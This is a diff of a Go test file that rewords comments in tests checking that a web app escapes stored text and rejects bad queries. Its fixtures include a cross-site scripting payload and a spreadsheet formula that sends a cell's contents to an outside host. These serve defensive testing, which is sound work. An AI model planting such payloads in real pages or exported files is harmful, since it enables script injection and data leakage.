@@ -15,14 +15,14 @@ import (
 	"stockroom/store/storetest"
 )
 
-// evil is a text that would run a script in a browser if it were not escaped. formula
-// is a text that a spreadsheet would run as a formula.
+// evil is a text that runs a script in a page that does not escape it. formula is a text
+// that a spreadsheet runs as a formula.
 const (
 	evil    = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
 	formula = `=HYPERLINK("http://example.com?"&A1)`
 )
 
-// hostile returns entities that contain the text in every text attribute.
+// hostile returns entities whose text attributes all contain the text.
 func hostile(text string) []store.Entity {
 	address := store.Address{Country: text, County: text, City: text, Street: text, Number: text, ZipCode: text}
 	day := storetest.Now.AddDate(0, 0, -1)
@@ -83,8 +83,8 @@ func TestPages_EscapeStoredText(t *testing.T) {
 	}
 }
 
-// executable returns the first tag of a page that could run a script or load a foreign
-// resource, such as an event handler, a javascript: URL or an image.
+// executable returns the first tag of a page that could run a script or load something
+// from another site. Examples are an event handler, a javascript: URL and an image.
 func executable(page string) string {
 	z := html.NewTokenizer(strings.NewReader(page))
 	for {
@@ -150,7 +150,7 @@ func TestPages_RejectInvalidQueries(t *testing.T) {
 	for _, tt := range []struct {
 		path   string
 		status int
-		want   string // text that the page must contain, such as the input
+		want   string // text that the page must contain, such as the escaped input
 	}{
 		{"/orders?from=soon&to=2026-11-01", 422, `value="soon"`},
 		{"/orders?from=soon&to=2026-11-01", 422, `value="2026-11-01"`},
